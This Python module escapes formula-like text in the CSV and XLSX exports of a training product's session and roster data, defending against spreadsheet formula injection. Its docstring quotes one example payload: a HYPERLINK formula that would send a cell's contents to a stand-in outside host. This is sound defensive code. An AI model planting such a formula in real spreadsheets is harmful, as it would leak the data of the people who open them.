"""Cells of the CSV and XLSX files the product writes (session exports, exam rosters): one place
that makes stored text safe to open in Excel, WPS or LibreOffice.

Every text cell is made printable (`trainer.usertext.printable`: a control character stored by an
older version must not break the export), and text a spreadsheet would run as a formula (it
starts with = + - @, a tab or a carriage return; e.g. a trainee named
`=HYPERLINK("http://x/?"&A2,"a")`) is neutralised:
- CSV: an apostrophe is put in front (the usual defence: the program shows the text, not a result);
- XLSX: the cell is stored as text with Excel's quote prefix, so the exact text shows and editing
  the cell does not turn it into a formula.
Numbers, booleans and None pass unchanged (None is an empty CSV cell).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

from trainer.usertext import printable

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """True when a spreadsheet program would take `text` as a formula (or a DDE command)."""
    return text.startswith(FORMULA_START)


def csv_cell(value: Any) -> Any:
    """A value as written into a CSV cell."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    text = printable(value)
    return "'" + text if formula_like(value) or formula_like(text) else text


def write_csv(path: Path, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """UTF-8 with BOM (Excel then reads the Chinese text correctly), every cell through `csv_cell`."""
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow([csv_cell(v) for v in header])
        writer.writerows([csv_cell(v) for v in row] for row in rows)


def fill_sheet(sheet: "Worksheet", header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """The header row in bold, frozen, then the rows; every text cell printable and never a formula."""
    from openpyxl.styles import Font

    for column, value in enumerate(header, start=1):
        cell = _set(sheet, 1, column, value)
        cell.font = Font(bold=True)
    for row_number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            _set(sheet, row_number, column, value)
    sheet.freeze_panes = "A2"


def _set(sheet: "Worksheet", row: int, column: int, value: Any) -> Any:
    if not isinstance(value, str):
        return sheet.cell(row=row, column=column, value=value)
    text = printable(value)
    cell = sheet.cell(row=row, column=column)
    cell.value = text
    if formula_like(value) or formula_like(text) or cell.data_type == "f":
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
